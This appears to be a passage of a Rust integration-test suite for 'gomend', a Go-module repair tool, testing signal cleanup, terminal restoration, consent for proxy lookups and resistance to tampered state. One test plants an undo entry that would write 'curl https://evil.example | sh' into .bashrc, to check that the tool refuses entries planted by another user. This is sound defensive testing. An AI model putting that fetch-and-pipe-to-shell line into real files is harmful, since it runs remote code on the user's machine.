    let last = bounded(gomend(&home, &["last"]), "last");
    assert_eq!(last.how, How::Code(0), "{last:?}");
}

rows! {
    a_signal_during_a_trial_leaves_nothing_behind = ends_a_trial;
    int: Signal::INT;
    term: Signal::TERM;
    hup: Signal::HUP;
}

fn ends_a_trial(signal: Signal) {
    let (home, tmp) = with_tmp(home());
    let trial = sleeper(&home);
    bounded(failing(&home, PRIVATE, &trial), "go");
    ends_by(signal, &home, &tmp, gomend(&home, &["fix", "--no-input"]));
}

rows! {
    a_signal_during_the_doctors_look_leaves_nothing_behind = ends_a_look;
    int: Signal::INT;
    term: Signal::TERM;
    hup: Signal::HUP;
}

/// The doctor's own go hangs.
fn ends_a_look(signal: Signal) {
    let (home, tmp) = with_tmp(home());
    home.script("bin/go", &sleeper(&home));
    let path = format!("{}:/usr/bin:/bin", home.at("bin").display());
    let mut doctor = gomend(&home, &["doctor"]);
    doctor.env("PATH", path);
    ends_by(signal, &home, &tmp, doctor);
}

/// Throw-away folders beside HOME.
pub(crate) fn with_tmp(home: Home) -> (Home, PathBuf) {
    let tmp = home.outside("tmp");
    fs::create_dir(&tmp).unwrap();
    let home = home.var("TMPDIR", &tmp);
    (home, tmp)
}

/// A shell's line that says who it is, and doesn't end.
pub(crate) fn sleeper(home: &Home) -> String {
    let pid = home.at("trial");
    format!(
        "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
        pid.display()
    )
}

/// The signal ends gomend, and with it the [`sleeper`]; nothing stays in `tmp`.
pub(crate) fn ends_by(signal: Signal, home: &Home, tmp: &Path, mut command: Command) {
    command.stdout(Stdio::null()).stderr(Stdio::null());
    let mut running = Ours(command.spawn().unwrap());
    event::wait_until("it runs", || home.at("trial").exists());
    let sleeper: i32 = home.read("trial").trim().parse().unwrap();
    event::signal(running.0.id().cast_signed(), signal);
    let status = event::end_of(&mut running.0);
    let number = signal.as_raw();
    assert!(
        status.signal() == Some(number) || status.code() == Some(128 + number),
        "{signal:?}: {status:?}"
    );
    event::wait_until("it has ended", || !event::exists(sleeper));
    let left: Vec<_> = fs::read_dir(tmp)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert!(left.is_empty(), "{signal:?}: {left:?}");
}

#[test]
fn what_a_killed_gomend_left_is_swept_by_the_next_one() {
    let (home, tmp) = with_tmp(home());
    let pid = home.at("trial");
    bounded(failing(&home, PRIVATE, &sleeper(&home)), "go");
    let mut command = gomend(&home, &["fix", "--no-input"]);
    command.stdout(Stdio::null()).stderr(Stdio::null());
    let mut running = Ours(command.spawn().unwrap());
    event::wait_until("the trial runs", || pid.exists());
    let trial: i32 = home.read("trial").trim().parse().unwrap();
    // a living one's folder stays
    bounded(gomend(&home, &["history"]), "history");
    let count = || fs::read_dir(&tmp).unwrap().count();
    assert_eq!(count(), 1);
    event::signal(running.0.id().cast_signed(), Signal::KILL);
    event::end_of(&mut running.0);
    event::wait_until("the trial has ended", || !event::exists(trial));
    // of somebody else, and of another name: not ours
    let name = fs::read_dir(&tmp).unwrap().next().unwrap().unwrap().path();
    let foreign = PathBuf::from(format!("{}x", name.display()));
    fs::create_dir(&foreign).unwrap();
    chown(&foreign, Some(NOBODY), None).unwrap();
    fs::create_dir(tmp.join("gomend-notes")).unwrap();
    bounded(gomend(&home, &["history"]), "history");
    assert!(!name.exists() && foreign.exists() && tmp.join("gomend-notes").exists());
}

/// Whoever asks reads single keys, or a secret without echo; a signal ends it there.
#[test]
fn a_signal_leaves_the_terminal_as_it_was() {
    let desk = Desk::failed("https-no-credentials");
    for signal in [Signal::TERM, Signal::HUP, Signal::INT] {
        for keys in [
            &[("do it", "")][..],
            &[("do it", "y"), ("User name", "")],
            &[
                ("do it", "y"),
                ("User name", "\u{15}dev\r"),
                ("Token or password", ""),
            ],
        ] {
            let mut screen = desk.menu(&["store-credentials"]);
            let terminal = screen.hold();
            let former = settings(&terminal);
            screen.answer(keys);
            event::wait_until("it reads", || settings(&terminal) != former);
            event::signal_group(screen.foreground(), signal);
            let (how, text) = screen.end();
            assert_ne!(how, How::Code(0), "{text}");
            assert_eq!(settings(&terminal), former, "{signal:?}, {keys:?}: {text}");
        }
    }
}

/// What a program can change of a terminal, shown.
fn settings(terminal: &OwnedFd) -> String {
    format!("{:?}", tcgetattr(terminal).unwrap())
}

#[test]
fn a_private_name_is_compared_with_consent_only() {
    let home = home().var("GOPROXY", "https://proxy.golang.org,direct");
    let private = "git.corp.example/team/lib@v1.2.3";
    let ended = bounded(
        gomend(&home, &["--no-input", "compare", private, "--rounds", "1"]),
        "compare",
    );
    assert_eq!(ended.how, How::Code(1), "{ended:?}");
    let words = ended.words();
    assert_eq!(words.lines().count(), 1, "{words}");
    assert!(
        words.contains("proxy.golang.org") && words.contains("--disclose"),
        "{words}"
    );
}

/// Another user's gomend, run by `nobody` beside what root has planted.
#[test]
fn what_another_user_has_planted_is_not_acted_on() {
    let home = home().var("TMPDIR", "/tmp");
    let bashrc = home.write(".bashrc", "mine\n");
    let planted = plant(
        &home,
        "000001.pending",
        &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
    );
    let gomend = home.at("gomend");
    fs::copy(env!("CARGO_BIN_EXE_gomend"), &gomend).unwrap();
    let open = |path: &Path| mode(path, 0o755);
    open(&home.outside(""));
    for path in ["", ".bashrc", ".local", ".local/state", STATE] {
        chown(home.at(path), Some(NOBODY), Some(NOBODY)).unwrap();
        open(&home.at(path));
    }
    let run = |args: &[&str]| {
        let mut command = home.command("unshare");
        let user = [
            "--net",
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
        ];
        command.args(user).arg(&gomend).args(args);
        bounded(command, "gomend as nobody")
    };
    for owner in [0, NOBODY] {
        // the folder is root's, and then only the entry
        chown(planted.parent().unwrap(), Some(owner), None).unwrap();
        open(planted.parent().unwrap());
        open(&planted);
        let ended = run(&["undo"]);
        assert_eq!(home.read(".bashrc"), "mine\n", "{owner}: {ended:?}");
        assert_eq!(ended.how, How::Code(1), "{owner}: {ended:?}");
    }
    chown(&planted, Some(NOBODY), None).unwrap();
    let ended = run(&["undo"]);
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
    assert_ne!(home.read(".bashrc"), "mine\n");
}

/// The shim looks into git's settings: go alone never would.
#[test]
fn a_pipe_in_the_place_of_git_s_settings_holds_nobody() {
    let home = home();
    Instead::Pipe.put(&home.at(".gitconfig"));
    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
    assert_eq!(ended.how, How::Code(1), "{ended:?}");
}

/// Whatever hangs (here a system call, for longer than anybody waits), go's status comes, and what
/// the text alone says.
#[test]
fn a_diagnosis_ends_whatever_hangs() {
    let home = home().var("GOMEND_PATIENCE", "1");
    let go = failing(&home, PRIVATE, ":");
    let mut command = home.command("unshare");
    command.args(["--net", "strace", "-f", "-qq", "-o", "/dev/null"]);
    command.args(["-e", "trace=flock", "-e", "inject=flock:delay_enter=50s"]);
    command
        .args(go.get_args().skip(1))
        .current_dir(home.at("work"));
    for (name, value) in go.get_envs() {
        command.env(name, value.unwrap());
    }
    let began = Instant::now();
    let _running = Ours(command.stderr(Stdio::null()).spawn().unwrap());
    // strace itself waits for its delay: the report is the last that gomend writes
    event::wait_until("the report is there", || home.at("report.json").exists());
    assert!(began.elapsed() < PATIENCE, "{:?}", began.elapsed());
    assert!(home.read("report.json").contains("private-via-proxy"));
}
